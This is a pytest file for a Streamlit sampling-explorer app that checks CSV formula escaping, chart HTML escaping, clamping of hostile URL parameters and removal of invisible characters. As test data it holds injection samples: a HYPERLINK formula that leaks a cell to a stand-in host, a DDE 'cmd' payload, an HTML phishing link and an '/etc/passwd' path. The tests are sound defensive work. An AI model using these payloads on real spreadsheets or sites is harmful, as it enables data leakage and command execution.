"""Output escaping and hostile links (issue 19, findings 9-13 and max_chars).

- CSV: a text cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) is
  prefixed with ``'``; numbers and plain-number strings stay numbers (finding 9).
- Charts: particle texts, tokens, answers and trace names reach a figure entity-escaped,
  and no hovertemplate carries them (finding 10).
- Links: every numeric parameter below its minimum, above its maximum, NaN, inf or huge,
  unknown keys, long values, bidi characters and models the picker does not offer render
  Home and Live SMC without an exception, clamped to the widgets' own ranges (one table,
  ``inputs.field_bounds``) with a note (findings 11 and 12).
- Invisible characters leave prompts and stop strings, with a note (finding 13).
- Every text widget has ``max_chars``.
"""

from __future__ import annotations

import ast
import csv
import io
import math
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from explorer import inputs, models, query
from explorer.history import RunEntry, entry_summary_csv
from explorer.settings import demo_settings
from powersmc_core.answers.extract import answer_posterior
from powersmc_core.engine.records import StepRecord
from powersmc_core.io.cells import safe_cell, safe_frame
from powersmc_core.plotting import live as charts
from powersmc_core.plotting.answer_chart import answer_posterior_figure
from powersmc_core.plotting.comparison import add_estimate_bars, mh_acceptance_figure

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
LIVE = "app_pages/live_smc.py"
DEMO = demo_settings({"POWERSMC_DEMO": "1"})
HYPERLINK = '=HYPERLINK("http://ev.il/?leak="&A2,"Open the report")'


# ---- CSV (finding 9) ------------------------------------------------------------------
@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-x"])
def test_formula_cells_are_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+2.5", "-1e-3", "hello", "", 3, -2.5, None, "a=b"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_safe_frame_keeps_numeric_columns_numeric():
    frame = pd.DataFrame({"prompt": [HYPERLINK, "ok"], "alpha": [-4.0, 2.0], "N": [8, 4]})
    out = safe_frame(frame)
    assert out["prompt"].tolist() == ["'" + HYPERLINK, "ok"]
    assert out["alpha"].dtype == np.float64 and out["N"].dtype == np.int64
    assert out["alpha"].tolist() == [-4.0, 2.0]


def _entry(prompt: str, completion: str) -> RunEntry:
    """A finished two-particle toy run whose prompt and completion are the visitor's text."""
    record = StepRecord(
        step=1,
        alpha=4.0,
        tau=0.25,
        catch_up=0.0,
        tokens=(1, 2),
        log_weights=(-0.5, -1.0),
        log_increment=(0.0, 0.0),
        renyi=(0.0, 0.0),
        log_p=(-1.0, -2.0),
        finished=(True, True),
        ess=1.9,
        resampled=False,
        ancestors=(0, 1),
        roots=(0, 1),
        n_lineages=2,
        n_unique_ancestors=2,
        log_z=-0.7,
        elapsed=0.25,
        texts=(completion, "second"),
    )
    return RunEntry(
        run_id="r1",
        model="@toy",
        prompt=prompt,
        config={"alpha": 4.0, "n_particles": 2, "schedule": "constant"},
        records=[record],
        result=None,
        status="uploaded",
    )


def test_a_hyperlink_prompt_is_inert_in_the_summary_csv():
    text = entry_summary_csv(_entry(HYPERLINK, "-cmd|' /C calc'!A0"))
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["prompt"] == "'" + HYPERLINK
    assert row["completion"] == "'-cmd|' /C calc'!A0"
    assert row["model"] == "'@toy"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or _is_number(cell), cell
    frame = pd.read_csv(io.StringIO(text))
    for column in ("alpha", "N", "steps", "log p", "log Z-hat", "latency [s]"):
        assert pd.api.types.is_numeric_dtype(frame[column]), column
    assert frame["log p"].iloc[0] == -1.0


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


# ---- charts (finding 10) --------------------------------------------------------------
HOSTILE = '<a href="//ev.il/p">log in</a><b>b</b>%{x}'
RAW_MARKERS = ("<a", "<b>", "%{x}", 'ev.il/p">')


def _strings(node: Any, key: str = "") -> list[tuple[str, str]]:
    """Every (key, string) in a figure's JSON, arrays of strings included."""
    if isinstance(node, dict):
        return [pair for k, v in node.items() for pair in _strings(v, k)]
    if isinstance(node, list | tuple | np.ndarray):
        return [pair for v in node for pair in _strings(v, key)]
    return [(key, node)] if isinstance(node, str) else []


def _assert_escaped(fig: Any) -> None:
    strings = _strings(fig.to_plotly_json())
    for key, text in strings:
        if key == "hovertemplate":
            assert "ev.il" not in text and "log in" not in text, text
        else:
            for marker in RAW_MARKERS:
                assert marker not in text, (key, text)
    assert any("&lt;a href=" in text and "&#37;{x}" in text for _, text in strings), (
        "the visitor's text is carried, escaped"
    )


def _hostile_record(n: int = 3) -> StepRecord:
    return StepRecord(
        step=2,
        alpha=4.0,
        tau=0.25,
        catch_up=0.0,
        tokens=(0, 1, 2)[:n],
        log_weights=(-1.0, -1.2, -0.9)[:n],
        log_increment=(0.0,) * n,
        renyi=(0.5,) * n,
        log_p=(-1.0,) * n,
        finished=(False,) * n,
        ess=2.5,
        resampled=True,
        ancestors=tuple(range(n)),
        roots=tuple(range(n)),
        n_lineages=n,
        n_unique_ancestors=n,
        log_z=0.0,
        elapsed=0.1,
        texts=(f"x {HOSTILE}",) * n,
    )


def test_live_figures_carry_particle_texts_and_tokens_escaped():
    records = [_hostile_record(), _hostile_record()]
    figures = charts.live_figures(records, 0.5, 4.0, token_label=lambda _: HOSTILE)
    for name in ("weights", "heatmap", "genealogy"):
        _assert_escaped(figures[name])
    for fig in figures.values():
        for key, text in _strings(fig.to_plotly_json()):
            assert "<a" not in text and "<b>" not in text, (key, text)


def test_the_answer_chart_carries_answers_escaped():
    texts = [f"so \\boxed{{{HOSTILE}}}", "\\boxed{7}", "\\boxed{7}"]
    fig = answer_posterior_figure(answer_posterior(texts, [0.0, -1.0, -1.0]))
    _assert_escaped(fig)


def test_trace_names_are_escaped_and_never_pasted_into_a_hovertemplate():
    fig = mh_acceptance_figure({HOSTILE: [0.5, 0.6]})
    add_estimate_bars(fig, ["1"], [0.5], name=HOSTILE)
    _assert_escaped(fig)


# ---- links (findings 11 and 12) ---------------------------------------------------------
@pytest.fixture
def demo_env(monkeypatch, tmp_path):
    monkeypatch.setenv("POWERSMC_DEMO", "1")
    monkeypatch.setenv("POWERSMC_DATA_DIR", str(tmp_path))
    # Pages load the sidebar's model: the toy, never the 360M LLM, in these tests.
    monkeypatch.setattr(models, "DEFAULT_MODEL", "toy-trap")
    yield
    streamlit.config.set_option("client.showErrorDetails", "full")


NUMERIC = ("n", "tokens", "alpha", "alpha_start", "kappa", "target_ess", "ramp", "block", "seed")
NUMERIC_VALUES = {
    "below": "-5",
    "above": "1000000",
    "nan": "nan",
    "inf": "inf",
    "huge": "1e308",
    "long-digits": "9" * 30,
}
HOSTILE_LINKS: dict[str, dict[str, str]] = {
    **{
        f"all-numeric-{kind}": {"model": "toy-trap", **dict.fromkeys(NUMERIC, value)}
        for kind, value in NUMERIC_VALUES.items()
    },
    "tau-below": {"model": "toy-trap", "proposal_temperature": "0"},
    "tau-nan": {"model": "toy-trap", "proposal_temperature": "-inf"},
    "target-ess-0.02": {"model": "toy-trap", "target_ess": "0.02", "schedule": "adaptive"},
    "kappa-above": {"model": "toy-trap", "kappa": "1.5"},
    "model-not-offered": {"model": "toy-random:8,8,77"},
    "model-path": {"model": "/etc/passwd"},
    "unknown-keys": {"model": "toy-trap", "x" * 300: "1", "<b>k</b>": "%{x}"},
    "long-values": {"model": "toy-trap", "prompt": "p" * 5000, "schedule": "a" * 3000},
    "bidi-prompt": {"model": "toy-trap", "prompt": "2+2\u202e=?\u2066\u200b\ufeff\U000e0041"},
    "bad-choices": {"model": "toy-trap", "schedule": "<b>x</b>", "resampling": "nan"},
}


def visit(params: dict[str, str]) -> tuple[AppTest, list[str]]:
    """Open Home with ``params``, then Live SMC in the same session; no exception on either."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update(params)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    # As the visitor reads them: escape_markdown's backslashes removed.
    toasts = [re.sub(r"\\(.)", r"\1", t.value) for t in at.toast]
    at.raw_toasts = [t.value for t in at.toast]
    at.switch_page(LIVE).run()
    assert not at.exception, [e.value for e in at.exception]
    return at, toasts


@pytest.mark.parametrize("name", list(HOSTILE_LINKS))
def test_hostile_links_render_home_and_live_within_the_widget_ranges(demo_env, name):
    at, toasts = visit(HOSTILE_LINKS[name])
    bounds = inputs.field_bounds(DEMO)
    for field in ("target_ess", "ess_threshold"):
        slider = at.slider(key=query.LIVE_WIDGETS[field])
        assert (slider.min, slider.max) == bounds[field]
        assert bounds[field][0] <= slider.value <= bounds[field][1]
    for field in ("n_particles", "max_new_tokens", "alpha", "seed", "block_size"):
        value = at.number_input(key=query.LIVE_WIDGETS[field]).value
        assert bounds[field][0] <= value <= bounds[field][1], (field, value)
    for text in at.raw_toasts:  # escaped: no markup reaches a toast
        assert "<b>" not in text and "](" not in text
    if name != "model-path":
        assert toasts or name == "model-not-offered", "each hostile link is reported"


def test_a_link_below_the_sliders_minimum_is_clamped_to_it_with_a_note(demo_env):
    at, toasts = visit(HOSTILE_LINKS["target-ess-0.02"])
    assert at.slider(key="live_target_ess").value == 0.05
    assert "target ESS/N must be in [0.05, 1]; got 0.02; using 0.05" in toasts, toasts


def test_a_linked_model_the_picker_does_not_offer_is_reported(demo_env):
    at, toasts = visit(HOSTILE_LINKS["model-not-offered"])
    assert any("toy-random:8,8,77" in t and "not offered" in t for t in toasts), toasts
    assert at.session_state["model_name"] == "toy-trap"  # the picker's default, said so
    at, toasts = visit(HOSTILE_LINKS["model-path"])
    assert any("/etc/passwd" in t and "not available" in t for t in toasts), toasts


def test_a_linked_model_the_picker_offers_is_selected(demo_env):
    at, toasts = visit({"model": "toy-random:3,8,0"})
    assert at.session_state["model_name"] == "toy-random:3,8,0" and not toasts


def test_a_bidi_prompt_in_a_link_is_cleaned_with_a_note(demo_env):
    at, toasts = visit(HOSTILE_LINKS["bidi-prompt"])
    assert at.session_state["live_prompt"] == "2+2=?"
    assert any("removed 5 control or invisible" in t for t in toasts), toasts


def test_the_widgets_and_the_links_read_one_table():
    # The link parser clamps to the same table the sliders are drawn with.
    link = query.parse_query_params({"target_ess": "0.0001", "kappa": "7"}, DEMO)
    bounds = inputs.field_bounds(DEMO)
    assert link.config["target_ess"] == bounds["target_ess"][0]
    assert link.config["ess_threshold"] == bounds["ess_threshold"][1]


# ---- invisible characters (finding 13) ----------------------------------------------------
INVISIBLE = {
    "zero-width space": "\u200b",
    "zero-width non-joiner": "\u200c",
    "zero-width joiner": "\u200d",
    "left-to-right mark": "\u200e",
    "right-to-left mark": "\u200f",
    "arabic letter mark": "\u061c",
    "word joiner": "\u2060",
    "soft hyphen": "\u00ad",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "tag latin capital A": "\U000e0041",
    "tag cancel": "\U000e007f",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "pop directional isolate": "\u2069",
    "byte order mark": "\ufeff",
}


@pytest.mark.parametrize("name", list(INVISIBLE))
def test_each_invisible_character_is_removed_from_a_prompt_with_a_note(name):
    text, notes = inputs.sanitize_prompt(f"two{INVISIBLE[name]} plus two", 100)
    assert text == "two plus two"
    assert len(notes) == 1 and "removed 1 control or invisible character" in notes[0]


@pytest.mark.parametrize("name", list(INVISIBLE))
def test_each_invisible_character_is_removed_from_stop_strings(name):
    cleaned, notes = inputs.clean_stop_strings(f"END{INVISIBLE[name]},x")
    assert cleaned == "END,x" and "removed 1" in notes[0]
    rule = inputs.make_stop("stop strings", f"END{INVISIBLE[name]}")
    rule.reset(1)
    assert rule.update(["the END"]) == [True]


def test_tabs_newlines_and_visible_unicode_stay():
    text, notes = inputs.sanitize_prompt("a\tb\nc é ∑ 日本", 100)
    assert text == "a\tb\nc é ∑ 日本" and not notes


# ---- max_chars on every text widget -------------------------------------------------------
TEXT_WIDGETS = {"text_input", "text_area", "chat_input"}


def _text_widget_calls() -> list[tuple[str, int, ast.Call]]:
    files = [ROOT / "app.py", *(ROOT / "app_pages").glob("*.py"), *(ROOT / "explorer").glob("*.py")]
    calls = []
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in TEXT_WIDGETS
            ):
                calls.append((path.name, node.lineno, node))
    return calls


def test_every_text_widget_has_max_chars():
    calls = _text_widget_calls()
    assert len(calls) >= 4  # the prompt, stop strings, custom model, Theory lab stop text
    missing = [
        f"{name}:{line}"
        for name, line, call in calls
        if not any(k.arg == "max_chars" for k in call.keywords)
    ]
    assert not missing, missing


def test_evaluation_results_csv_is_inert_and_reads_back_exactly(tmp_path):
    # Completions and answers in a results file are model text; the runner reads the file
    # back to resume, so the quote it adds must come off again.
    from powersmc_core.evaluation.runner import ResultStore

    path = tmp_path / "results.csv"
    texts = {"completion": HYPERLINK, "answer": "-3", "reference": "'=x", "model": "@m"}
    store = ResultStore(path, chunk_size=1)
    store.add({"problem_id": "p1", "method": "smc", "config_hash": "h", **texts})
    (row,) = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert row["completion"] == "'" + HYPERLINK and row["model"] == "'@m"
    assert row["answer"] == "-3" and row["reference"] == "''=x"
    back = ResultStore(path).table().iloc[0]
    assert {k: back[k] for k in texts} == texts


def test_a_typed_prompt_with_invisible_characters_gets_a_note_and_a_bounded_area(
    demo_env, monkeypatch
):
    # The free-text prompt is offered for text models; the toy stands in for one here.
    monkeypatch.setattr(models, "is_toy", lambda _model: False)
    at, _ = visit({"model": "toy-trap"})
    at.radio(key="live_prompt_mode").set_value("Free text").run()
    area = at.text_area(key="live_prompt")
    assert area.max_chars == DEMO.max_prompt_chars
    area.input("two\u200b plus\u2066 two").run()
    assert not at.exception
    notes = [w.value for w in at.warning]
    assert any("removed 2 control or invisible" in re.sub(r"\\(.)", r"\1", n) for n in notes)
